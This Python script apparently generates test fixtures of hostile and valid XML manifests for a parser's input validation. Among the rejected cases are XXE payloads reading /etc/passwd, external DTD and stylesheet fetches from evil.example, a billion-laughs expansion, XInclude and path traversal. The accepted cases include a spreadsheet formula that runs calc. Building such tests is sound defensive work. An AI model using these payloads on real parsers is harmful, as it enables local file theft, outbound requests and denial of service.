#!/usr/bin/env python3
"""Manifests as an enemy writes them (hostile-input, A.4).
Usage: xml.py DIR; writes DIR/OUTCOME/NAME for each."""
import os
import sys

OUT = sys.argv[1]
HEAD = ('<package xmlns="urn:toiyaba:package:1" id="7f0c1a52-6d0e-4e57-9f0e-2f1f2a2f7d10"'
        ' to="00000000000000000000000000000000000000AA" from="gas-03"'
        ' created="2017-08-03T09:12:00+09:00">')
TAIL = "</package>"
SUB = '<submission id="1" kind="incident"><title>{}</title>{}</submission>'


def put(outcome, name, data):
    os.makedirs(f"{OUT}/{outcome}", exist_ok=True)
    if isinstance(data, str):
        data = data.encode()
    with open(f"{OUT}/{outcome}/{name}.xml", "wb") as f:
        f.write(data)


def whole(body=""):
    return HEAD + body + TAIL


def bad(name, data):
    put("bad-manifest", name, data)


bad("doctype", "<!DOCTYPE package>" + whole())
bad("xxe", '<!DOCTYPE package [<!ENTITY x SYSTEM "file:///etc/passwd">]>' + whole(SUB.format("&x;", "")))
bad("xxe-http", '<!DOCTYPE package SYSTEM "http://evil.example/x.dtd">' + whole())
bad("parameter", '<!DOCTYPE package [<!ENTITY % x SYSTEM "http://evil.example/x"> %x;]>' + whole())
bad("laughs", "<!DOCTYPE package [<!ENTITY a0 \"ha\">" + "".join(
    f'<!ENTITY a{i} "{f"&a{i - 1};" * 10}">' for i in range(1, 10)) + "]>" + whole(SUB.format("&a9;", "")))
bad("deep", HEAD + "<submission>" * 5000 + "</submission>" * 5000 + TAIL)
bad("attributes", HEAD[:-1] + "".join(f' a{i}="x"' for i in range(100000)) + ">" + TAIL)
bad("attributes-behind", HEAD[:-1] + " x='<!-- \">' " + "<!-- ' -->".join(["", ""]) + "".join(f" a{i}='x'" for i in range(100000)) + ">" + TAIL)
bad("attributes-commented", HEAD + "<!-- ' -->" + "<submission" + "".join(f' a{i}="x"' for i in range(100000)) + "/>" + TAIL)
bad("attributes-cdata", HEAD + "<![CDATA[ ' ]]><?p ' ?>" + "<submission" + "".join(f' a{i}="x>"' for i in range(100000)) + "/>" + TAIL)
bad("doctype-quote", "<!DOCTYPE package SYSTEM \"'\" [<!-- ' -->]>" + HEAD[:-1] + "".join(f' a{i}="x"' for i in range(100000)) + ">" + TAIL)
bad("namespaces", HEAD[:-1] + "".join(f' xmlns:n{i}="u{i}"' for i in range(100000)) + " x='1'>" + TAIL)
bad("long-name", HEAD + "<" + "x" * 1000000 + "/>" + TAIL)
bad("huge-text", whole(SUB.format(os.urandom(3500000).hex(), "")))
bad("larger-than-allowed", whole(SUB.format("x", "<!--" + os.urandom(4500000).hex() + "-->")))
bad("utf-16", whole().encode("utf-16"))
bad("utf-7", '<?xml version="1.0" encoding="UTF-7"?>' + whole())
bad("ebcdic", whole().encode("cp500"))
bad("shift-jis", ('<?xml version="1.0" encoding="Shift_JIS"?>' + whole(SUB.format("調査", ""))).encode("cp932"))
bad("bad-utf-8", whole(SUB.format("X", "")).encode().replace(b"X", b"\xff\xfe"))
bad("surrogate", whole(SUB.format("X", "")).encode().replace(b"X", b"\xed\xa0\x80"))
bad("nul", whole(SUB.format("X", "")).encode().replace(b"X", b"\0"))
bad("control", whole(SUB.format("&#1;", "")))
bad("c1", whole(SUB.format("&#x85;", "")))
bad("no-namespace", whole().replace(' xmlns="urn:toiyaba:package:1"', ""))
bad("other-namespace", whole().replace("package:1", "package:2"))
bad("xinclude", whole('<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="file:///etc/passwd" parse="text"/>'))
bad("schema-location", HEAD[:-1] + ' xmlns:i="http://www.w3.org/2001/XMLSchema-instance" i:schemaLocation="u http://evil.example/x">' + TAIL)
bad("stylesheet", '<?xml-stylesheet href="http://evil.example/x.xsl" type="text/xsl"?>' + whole())
bad("unknown", whole("<frob/>"))
bad("unclosed", HEAD)
bad("empty", "")
bad("two-roots", whole() + whole())
bad("trailing", whole() + "junk")
bad("same-id", whole(SUB.format("a", "") * 2))
bad("negative", whole(SUB.format("a", "").replace('"1"', '"-1"')))
bad("no-title", whole('<submission id="1" kind="incident"/>'))
bad("empty-title", whole(SUB.format(" ", "")))
bad("bad-date", whole(SUB.format("t", '<observation direction="inbound" address="198.51.100.1" first="2017-02-30" last="2017-03-01" count="1"/>')))
bad("date-order", whole(SUB.format("t", '<observation direction="inbound" address="198.51.100.1" first="2017-03-02" last="2017-03-01" count="1"/>')))
bad("count-zero", whole(SUB.format("t", '<observation direction="inbound" address="198.51.100.1" first="2017-03-01" last="2017-03-01" count="0"/>')))
bad("count-huge", whole(SUB.format("t", '<observation direction="inbound" address="198.51.100.1" first="2017-03-01" last="2017-03-01" count="99999999999999999999"/>')))
COUNTED = '<observation direction="inbound" address="198.51.100.1" first="2017-03-01" last="2017-03-01" count="%d"/>'
SEEN = '<sighting item="S-2017-7K3QM2XB" count="%d"/>'
bad("count-over", whole(SUB.format("t", COUNTED % (10**9 + 1))))
bad("sighting-over", whole(SEEN % (10**9 + 1)))
bad("count-half", whole(SUB.format("t", COUNTED % 2**61)))
bad("publish-word", whole(SUB.format("t", '<share publish="maybe"/>')))
bad("publish-amber", whole(SUB.format("t", '<share consent="given" scope="all" tlp="amber" publish="yes"/>')))
bad("publish-red", whole(SUB.format("t", '<share consent="given" scope="all" tlp="red" publish="yes"/>')))
bad("publish-no-tlp", whole(SUB.format("t", '<share publish="yes"/>')))
bad("topic-empty", whole('<ruling case="C-2017-0001"><topic> </topic></ruling>'))
bad("port", whole(SUB.format("t", '<observation direction="inbound" address="198.51.100.1" port="65536" first="2017-03-01" last="2017-03-01" count="1"/>')))
bad("indicator", whole(SUB.format("t", '<indicator type="ipv4-addr" role="c2">not one</indicator>')))
bad("two-addresses", whole(SUB.format("t", '<indicator type="email-addr" role="sender">evil@lure.example;b@lure.example</indicator>')))
bad("address-with-comment", whole(SUB.format("t", '<indicator type="email-addr" role="sender">root@lure.example(Cron)</indicator>')))
bad("address-with-scheme", whole(SUB.format("t", '<indicator type="email-addr" role="sender">sip:a@lure.example</indicator>')))
bad("path-up", whole(SUB.format("t", f'<file path="../x" role="log" sha256="{"0" * 64}"/>')))
bad("path-twice", whole(SUB.format("t", f'<file path="x" role="log" sha256="{"0" * 64}"/>' * 2)))
bad("digest", whole(SUB.format("t", '<file path="x" role="log" sha256="00"/>')))
bad("from", whole().replace("gas-03", "../gas-03"))
bad("id", whole().replace("7f0c1a52", "zzzzzzzz"))
bad("with", whole('<sighting item="S-2017-7K3QM2XB" count="1"><with submission="9"/></sighting>'))
bad("period", whole('<chapter period="2017Q5"><title xml:lang="ja">t</title></chapter>'))
FOUND = '<sighting item="S-2017-7K3QM2XB" %s/>'
for name, attrs in (("result-word", 'result="maybe"'), ("outcome-word", 'outcome="eaten"'), ("found-nothing-twice", 'result="not-found" count="2"'),
                    ("nothing-opened", 'result="not-found" outcome="opened"'), ("request-name", 'request="R-2017-ILOU0000"')):
    bad(name, whole(FOUND % attrs))
ASK = "<request %s>%s</request>"
for name, attrs, text in (("ask-nobody", 'until="2017-08-20"', "x"), ("ask-ever", 'audience="gas"', "x"), ("ask-nothing", 'audience="gas" until="2017-08-20"', ""),
                          ("ask-no-day", 'audience="gas" until="2017-02-30"', "x"), ("ask-path", 'audience="../gas" until="2017-08-20"', "x"),
                          ("ask-both", 'audience="gas" submission="7f0c1a52-6d0e-4e57-9f0e-2f1f2a2f7d10/1" until="2017-08-20"', "x"),
                          ("ask-and-end", 'closes="R-2017-7K3QM2XB" until="2017-08-20"', "")):
    bad(name, whole(ASK % (attrs, text)))
bad("harmless-released", whole('<ruling case="C-2017-0001" harmless="yes" release="yes"/>'))
put("accepted", "plain", whole())
put("accepted", "declared", '<?xml version="1.0" encoding="UTF-8"?>\n' + whole())
put("accepted", "bom", b"\xef\xbb\xbf" + whole().encode())
put("accepted", "crlf", whole("\r\n" + SUB.format("t", "\r\n")))
put("accepted", "comment", whole("<!-- c -->" + SUB.format("a<!-- x -->b<![CDATA[<c>]]>", "")))
put("accepted", "rlo", whole(SUB.format("\u202egpj.exe", "")))
put("accepted", "count-at", whole(SUB.format("t", COUNTED % 10**9)))
put("accepted", "sighting-at", whole(SEEN % 10**9))
put("accepted", "publish", whole(SUB.format("t", '<share consent="given" scope="all" tlp="green" publish="yes"/>')))
put("accepted", "publish-white", whole(SUB.format("t", '<share publish="yes" tlp="white"/>')))
put("accepted", "publish-no", whole(SUB.format("t", '<share publish="no" tlp="red"/>')))
put("accepted", "formula", whole(SUB.format("=cmd|'/c calc'!A0", "")))
put("accepted", "chapter", whole('<chapter period="2017Q3"><title xml:lang="ja">t<!-- c --></title><?pi x?><p xml:lang="ja">p</p></chapter>').replace("<?pi x?>", ""))
